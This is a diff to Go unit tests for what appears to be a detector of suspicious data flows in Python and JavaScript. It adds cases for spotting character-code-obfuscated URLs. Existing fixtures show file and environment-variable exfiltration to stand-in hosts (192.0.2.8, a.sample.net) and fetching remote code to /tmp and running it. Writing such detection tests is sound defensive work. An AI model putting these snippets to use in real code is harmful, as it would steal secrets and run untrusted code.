@@ -257,6 +257,8 @@ func TestPythonFlow(t *testing.T) {
 		{"import socket\ns = socket.socket()\ns.connect(('192.0.2.8', 1))\ns.sendall(open('/etc/a').read())", "sends host 192.0.2.8 <reads:/etc/a"},
 		{"import requests\nclass A:\n    def read(self, p):\n        return open(p).read()\n    def get(self):\n        return self.read('/etc/a')\nrequests.post('https://a.sample.net', data=A().get())", "sends host a.sample.net <reads:/etc/a"},
 		{"import os, subprocess\nsubprocess.run(['git', 'fetch', 'https://a.sample.net/x'], env=os.environ.copy())", "sends host a.sample.net <runs:git; !sends host a.sample.net <reads:*"},
+		{"v = [int(x) for x in '104,116,116,112,58,47,47,97,46,98'.split(',')]\nt = bytes(((pow(3, -1, 256) * 3 * y) % 256) for y in v)", "decodes encoding characters"},
+		{"t = '/'.join(['https:', '', 'a.sample.net'])", "!decodes encoding characters"},
 		{"import subprocess, sys\nsubprocess.check_call([sys.executable, '-m', 'pip', 'install', 'left'])", "needs package left"},
 	})
 }
@@ -306,6 +308,7 @@ func TestJavaScriptFlow(t *testing.T) {
 		{"const d = {}; for (const k of Object.keys(process.env)) d[k] = process.env[k]\nconst r = require('https').request({hostname: 'a.sample.net'}); r.write(JSON.stringify(d)); r.end()", "sends host a.sample.net <reads:*"},
 		{"const fs = require('fs'); fetch('https://a.sample.net/x').then(r => r.text()).then(t => { fs.writeFileSync('/tmp/x.js', t); require('/tmp/x.js') })", "runs code  <writes:/tmp/x.js"},
 		{"const fs = require('fs'); require('https').get('https://a.sample.net/x', r => { const f = fs.createWriteStream('/tmp/y.sh'); r.pipe(f) })", "writes file /tmp/y.sh <sends:a.sample.net"},
+		{"const u = '68,74,74,70,73,3a,2f,2f,61,2e,62'.split(',').map(c => String.fromCharCode(parseInt(c, 16))).join('')", "decodes encoding characters"},
 		{"console.log('https://a.sample.net'); const x = 'https://b.sample.net'; weird('https://c.sample.net')", "!sends host a.sample.net; !sends host b.sample.net; sends host c.sample.net?"},
 	})
 }
